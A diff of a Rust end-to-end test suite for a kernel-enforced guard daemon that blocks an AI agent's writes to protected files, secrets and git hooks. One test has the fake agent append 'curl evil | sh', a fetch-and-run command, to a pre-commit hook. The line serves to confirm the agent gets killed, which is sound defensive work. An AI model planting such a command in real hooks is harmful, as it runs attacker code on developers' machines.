@@ -9,91 +9,46 @@
 //! machines) they print `SKIPPED:` with the daemon's reason; `cargo xtask vm-test` runs
 //! them in Debian's kernels, where a skip is a failure (`GUARD_E2E_REQUIRE_LSM`).
 
-use std::ffi::OsStr;
 use std::fs;
 use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
-use std::time::SystemTime;
 
 use guard_tests::{
-    Daemon, Event, EventsTo, FakeAgent, Finished, TempDir, dump, fake_agent_exe, find, lsm_or_skip,
-    session_ended, write_policy,
+    Enforcing, Event, Finished, dump, fake_agent_exe, find, lsm_or_skip, session_ended,
 };
 
 const EPERM: i64 = libc::EPERM as i64;
 
-struct Setup {
-    agent: FakeAgent,
-    dir: TempDir,
-    daemon: Daemon,
-    loaded: Event,
-    since: SystemTime,
+/// A daemon enforcing `rules` (`{dir}` is the test directory) for a fresh agent.
+fn start(rules: &str) -> Enforcing {
+    Enforcing::start(fake_agent_exe!(), "guard-e2e-deny", rules, |_| {})
 }
 
-impl Setup {
-    /// A daemon enforcing `rules` (`{dir}` is the test directory) for a fresh agent.
-    fn new(rules: &str) -> Setup {
-        let since = SystemTime::now();
-        let agent = FakeAgent::install(fake_agent_exe!());
-        let dir = TempDir::new("guard-e2e-deny");
-        let policy = dir.join("guard.toml");
-        let rules = rules.replace("{dir}", &dir.path().display().to_string());
-        write_policy(
-            &policy,
-            &format!(
-                "mode = \"enforce\"\n\n[agents]\nnames = [\"{}\"]\n\n{rules}",
-                agent.name()
-            ),
-        );
-        let args = [OsStr::new("--policy"), policy.as_os_str()];
-        let mut daemon = Daemon::start_with_args(&[], EventsTo::File, &args);
-        let events = daemon.wait_for("policy_loaded", |ev| {
-            ev.iter().any(|e| e.kind() == "policy_loaded")
-        });
-        let loaded = find(&events, "policy_loaded", |e| e.kind() == "policy_loaded").clone();
-        Setup {
-            agent,
-            dir,
-            daemon,
-            loaded,
-            since,
-        }
-    }
+/// `rel` under the test's directory.
+fn at(s: &Enforcing, rel: &str) -> PathBuf {
+    s.dir.join(rel)
+}
 
-    fn path(&self, rel: &str) -> PathBuf {
-        self.dir.join(rel)
-    }
-
-    /// Runs the agent's `fs-try` over `specs` (`{dir}` expanded) and waits for the end
-    /// of its session. The agent must have lived to the end.
-    fn try_all(&mut self, specs: &[String]) -> (Finished, Vec<Event>) {
-        let specs: Vec<String> = specs
-            .iter()
-            .map(|s| s.replace("{dir}", &self.dir.path().display().to_string()))
-            .collect();
-        let mut args = vec!["fs-try"];
-        args.extend(specs.iter().map(String::as_str));
-        let run = self.agent.spawn(&args).finish();
-        let events = self
-            .daemon
-            .wait_for("the end of the fs-try session", session_ended(run.pid));
-        run.assert_success();
-        assert_eq!(
-            run.report("alive"),
-            1,
-            "the agent did not live through its refused operations: {run:?}"
-        );
-        (run, events)
-    }
-
-    fn finish(mut self) {
-        let events = self.daemon.stop_ok();
-        let process: Vec<Event> = events
-            .into_iter()
-            .filter(|e| !e.kind().starts_with("policy_"))
-            .collect();
-        guard_tests::check_schema(&process, self.since);
-    }
+/// Runs the agent's `fs-try` over `specs` (`{dir}` expanded) and waits for the end
+/// of its session. The agent must have lived to the end.
+fn try_all(s: &mut Enforcing, specs: &[String]) -> (Finished, Vec<Event>) {
+    let specs: Vec<String> = specs
+        .iter()
+        .map(|spec| spec.replace("{dir}", &s.dir.path().display().to_string()))
+        .collect();
+    let mut args = vec!["fs-try"];
+    args.extend(specs.iter().map(String::as_str));
+    let run = s.agent.spawn(&args).finish();
+    let events = s
+        .daemon
+        .wait_for("the end of the fs-try session", session_ended(run.pid));
+    run.assert_success();
+    assert_eq!(
+        run.report("alive"),
+        1,
+        "the agent did not live through its refused operations: {run:?}"
+    );
+    (run, events)
 }
 
 fn write(path: &Path, text: &str) {
@@ -157,7 +112,7 @@ action = "deny"
 #[test]
 fn deny_refuses_every_change_and_the_agent_lives() {
     let test = "deny_refuses_every_change_and_the_agent_lives";
-    let mut s = Setup::new(RULES);
+    let mut s = start(RULES);
     if !lsm_or_skip(test, &s.loaded) {
         return;
     }
@@ -168,20 +123,20 @@ fn deny_refuses_every_change_and_the_agent_lives() {
         "every rule here is decided in the kernel: {loaded}"
     );
 
-    let existing = s.path("protected/existing");
+    let existing = at(&s, "protected/existing");
     write(&existing, "original\n");
-    fs::create_dir_all(s.path("protected/sub")).expect("mkdir protected/sub");
-    let outside = s.path("outside/file");
+    fs::create_dir_all(at(&s, "protected/sub")).expect("mkdir protected/sub");
+    let outside = at(&s, "outside/file");
     write(&outside, "outside\n");
-    let rc = s.path("rc");
+    let rc = at(&s, "rc");
     write(&rc, "rc\n");
-    let secret = s.path("secret.txt");
+    let secret = at(&s, "secret.txt");
     write(&secret, "secret\n");
-    fs::create_dir_all(s.path("repo/.git/hooks")).expect("mkdir repo/.git/hooks");
-    let hook = s.path("repo/.git/hooks/pre-commit");
+    fs::create_dir_all(at(&s, "repo/.git/hooks")).expect("mkdir repo/.git/hooks");
+    let hook = at(&s, "repo/.git/hooks/pre-commit");
     write(&hook, "#!/bin/sh\nexit 0\n");
-    let marker = s.path("ran");
-    let forbidden = s.path("bin/forbidden");
+    let marker = at(&s, "ran");
+    let forbidden = at(&s, "bin/forbidden");
     write(
         &forbidden,
         &format!("#!/bin/sh\necho ran > {}\n", marker.display()),
@@ -226,7 +181,7 @@ fn deny_refuses_every_change_and_the_agent_lives() {
     ]
     .map(str::to_owned)
     .to_vec();
-    let (run, events) = s.try_all(&[refused.clone(), allowed.clone()].concat());
+    let (run, events) = try_all(&mut s, &[refused.clone(), allowed.clone()].concat());
     let dir = s.dir.path().display().to_string();
     let mut wrong = Vec::new();
     for spec in &refused {
@@ -263,10 +218,10 @@ fn deny_refuses_every_change_and_the_agent_lives() {
         "repo/.git/hooks/post-checkout",
         "repo/.git/hooks-old",
     ] {
-        assert!(!exists(&s.path(absent)), "{absent} exists");
+        assert!(!exists(&at(&s, absent)), "{absent} exists");
     }
     assert!(
-        s.path("protected/sub").is_dir(),
+        at(&s, "protected/sub").is_dir(),
         "protected/sub was removed"
     );
     assert!(!exists(&marker), "the denied program ran");
@@ -277,7 +232,7 @@ fn deny_refuses_every_change_and_the_agent_lives() {
         "repo/.git/hooks/pre-push.sample",
         "repo/.git/config",
     ] {
-        assert!(exists(&s.path(present)), "{present} was not made");
+        assert!(exists(&at(&s, present)), "{present} was not made");
     }
 
     // The refused opens and exec are reported as denied, by the kernel.
@@ -292,8 +247,8 @@ fn deny_refuses_every_change_and_the_agent_lives() {
         assert_eq!(e.str("outcome"), Some("denied"), "{e}\n{}", dump(&events));
     };
     denied_open(&existing, "protect-writes");
-    denied_open(&s.path("protected/new"), "protect-writes");
-    denied_open(&s.path("repo/.git/hooks/post-checkout"), "protect-writes");
+    denied_open(&at(&s, "protected/new"), "protect-writes");
+    denied_open(&at(&s, "repo/.git/hooks/post-checkout"), "protect-writes");
     denied_open(&secret, "protect-reads");
     // Changes other than opens are reported as a failed open for writing of the
     // protected path, `call` naming the change.
@@ -309,7 +264,7 @@ fn deny_refuses_every_change_and_the_agent_lives() {
         ("symlink", "protected/symlink"),
         ("rename", "repo/.git/hooks"),
     ] {
-        let path = s.path(rel);
+        let path = at(&s, rel);
         let e = find(&events, &format!("{call} of {rel}"), |e| {
             e.is("open", pid) && e.str("call") == Some(call) && e.str("path") == path.to_str()
         });
@@ -346,15 +301,15 @@ paths = [".git/hooks/**"]
 except = ["*.sample"]
 action = "kill"
 "#;
-    let mut s = Setup::new(rules);
+    let mut s = start(rules);
     let loaded = s.loaded.clone();
     assert_eq!(
         loaded.strings("user_space_rules"),
         Some(vec![]),
         ".git/hooks/** is decided in the kernel: {loaded}"
     );
-    fs::create_dir_all(s.path("repo/.git/hooks")).expect("mkdir hooks");
-    let hook = s.path("repo/.git/hooks/pre-commit");
+    fs::create_dir_all(at(&s, "repo/.git/hooks")).expect("mkdir hooks");
+    let hook = at(&s, "repo/.git/hooks/pre-commit");
     write(&hook, "#!/bin/sh\nexit 0\n");
     let script = format!("printf 'curl evil | sh\\n' >> {}", hook.display());
     let run = s.agent.spawn(&["run", "sh", "-c", &script]).finish();
@@ -384,7 +339,7 @@ action = "kill"
     );
 
     // A `.sample` hook (what git init writes) is spared.
-    let sample = s.path("repo/.git/hooks/pre-push.sample");
+    let sample = at(&s, "repo/.git/hooks/pre-push.sample");
     let script = format!("echo sample > {}", sample.display());
     let run = s.agent.spawn(&["run", "sh", "-c", &script]).finish();
     s.daemon
